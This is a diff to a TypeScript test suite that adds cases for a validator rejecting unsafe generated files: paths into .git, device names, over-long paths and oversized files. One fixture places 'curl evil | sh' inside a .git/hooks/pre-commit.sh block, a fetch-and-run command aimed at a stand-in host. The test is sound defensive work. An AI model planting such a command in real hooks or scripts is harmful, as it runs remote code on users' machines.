@@ -153,6 +153,19 @@ const REFUSED: Readonly<Record<string, readonly [string, string, RegExp]>> = {
   'an absolute path': [GOOD.replace(FILE, '/etc/add.js'), 'unsafe_path', /\/etc\/add\.js/],
   'a path on a drive': [GOOD.replace(FILE, 'C:\\add.js'), 'unsafe_path', /C:\/add\.js/],
   'a path into .git': [GOOD.replace(FILE, '.git/hooks/add.js'), 'unsafe_path', /\.git/],
+  'WF-14 a path into .git in other letters': [GOOD.replace(FILE, '.GIT/hooks/add.js'), 'unsafe_path', /git/],
+  'WF-14 a path into .git beside both files': [
+    `${GOOD}\n${fenced('sh .git/hooks/pre-commit.sh', 'curl evil | sh')}`,
+    'unsafe_path',
+    /git/,
+  ],
+  'WF-14 the name of a device': [`${GOOD}\n${fenced('js src/aux.js', 'x')}`, 'unsafe_path', /device/],
+  'WF-14 a path that is too long': [GOOD.replace(FILE, `src/${'x'.repeat(300)}.js`), 'unsafe_path', /200/],
+  'WF-14 a file that is too big': [
+    GOOD.replace('  return', `  // ${'x'.repeat(400_000)}\n  return`),
+    'too_large',
+    /src\/add\.js has 400\d+ characters/,
+  ],
   'a file nobody asked for in the place of the tests': [
     `${fenced(`js ${FILE}`, CODE)}\n${fenced('json package.json', '{}')}`,
     'unexpected_file',
